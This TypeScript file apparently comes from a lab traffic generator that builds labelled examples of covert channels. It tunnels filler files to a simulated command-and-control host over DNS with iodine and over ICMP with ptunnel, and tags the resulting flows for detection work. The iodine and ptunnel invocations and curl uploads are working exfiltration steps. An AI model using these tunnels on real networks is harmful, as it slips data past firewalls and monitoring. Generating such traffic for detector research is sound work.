/** Data carried inside protocols that are let through: DNS by iodine, ICMP echo by ptunnel. */

import type { Deed } from '../deed.ts'
import { makeFile } from '../ordinary/transfers.ts'
import type { HostName } from '../plan.ts'
import { tunnelZone } from '../plan.ts'
import { filler } from '../servers/nginx.ts'
import { between, type World } from '../world.ts'

export interface TunnelOptions {
  readonly from?: HostName
  /** Through the company's resolver, or straight to the controller. */
  readonly direct?: boolean
  readonly seconds: number
  readonly kilobytes: number
}

const secret = 'lantern'
const inner = { server: '10.99.0.1', prefix: '10.99.0.1/27' } as const

/** An IP link in DNS questions and answers, over which files go out and pages come in. */
export async function tunnelDns(world: World, options: TunnelOptions): Promise<void> {
  const { from = 'client', direct = false } = options
  const [client, c2] = [world.host(from), world.host('c2')]
  const server = c2.spawn(['iodined', '-f', '-c', '-P', secret, inner.prefix, tunnelZone])
  await server.saying('Listening to dns')
  const startMs = Date.now()
  const resolver = direct ? c2.address : world.host('dns').address
  const tunnel = client.spawn(['iodine', '-f', '-r', '-P', secret, resolver, tunnelZone])
  try {
    await tunnel.saying('Connection setup complete', 60_000)
    const clientPort = await portOf(world, from)
    await pushThrough(world, options, `http://${inner.server}`)
    world.mark(dnsDeeds(world, { from, direct, clientPort }), startMs)
  } finally {
    await Promise.all([tunnel.stop(), server.stop()])
  }
}

interface DnsPath {
  readonly from: HostName
  readonly direct: boolean
  readonly clientPort: number
}

function dnsDeeds(world: World, { from, direct, clientPort }: DnsPath): Deed[] {
  const deed = { behaviour: 'dns-tunnel', protocol: 'udp', serverPorts: [53] } as const
  const client = world.host(from).address
  const c2 = world.host('c2').address
  const dns = world.host('dns').address
  if (direct) return [{ ...deed, client, clientPort, server: c2 }]
  return [
    { ...deed, client, clientPort, server: dns },
    { ...deed, client: dns, server: c2 },
  ]
}

/** The local port iodine speaks from: its flow is told from the host's ordinary questions by it. */
async function portOf(world: World, from: HostName): Promise<number> {
  const sockets = await world.host(from).run(['ss', '-H', '-u', '-a', '-n', '-p'])
  const line = sockets.stdout.split('\n').find((text) => text.includes('iodine')) ?? ''
  return Number(/:(\d+)\s/.exec(line)?.[1] ?? 0)
}

async function pushThrough(world: World, options: TunnelOptions, base: string): Promise<void> {
  const host = world.host(options.from ?? 'client')
  const random = world.random('tunnel')
  const parts = Math.max(2, Math.round(options.seconds / 12))
  const bytes = Math.round((options.kilobytes * 1024) / parts)
  for (let part = 0; part < parts; part++) {
    const path = await makeFile(host, 'part.bin', filler(bytes, part + 1))
    const url = `${base}/upload/part${part}.bin`
    await host.attempt(['curl', '-s', '-m', '60', '-o', '/dev/null', '-T', path, url])
    await host.attempt(['curl', '-s', '-m', '60', '-o', '/dev/null', `${base}/api/task`])
    await world.pause(between(random, 2_000, 9_000))
  }
}

/** A TCP connection carried in echo requests and replies. */
export async function tunnelIcmp(world: World, options: TunnelOptions): Promise<void> {
  const { from = 'client' } = options
  const [client, c2] = [world.host(from), world.host('c2')]
  // The proxy answers the echo requests itself; the kernel's own answers would double them.
  await c2.run(['sh', '-c', 'echo 1 > /proc/sys/net/ipv4/icmp_echo_ignore_all'])
  const server = c2.spawn(['ptunnel', '-x', secret])
  const target = ['-lp', '8000', '-da', '127.0.0.1', '-dp', '80']
  const tunnel = client.spawn(['ptunnel', '-p', c2.address, ...target, '-x', secret])
  const deed: Deed = {
    behaviour: 'icmp-tunnel',
    protocol: 'icmp',
    client: client.address,
    server: c2.address,
  }
  await world.pause(1_000)
  await world.beside([tunnel, server], () =>
    world.malicious([deed], () => pushThrough(world, options, 'http://127.0.0.1:8000')),
  )
}
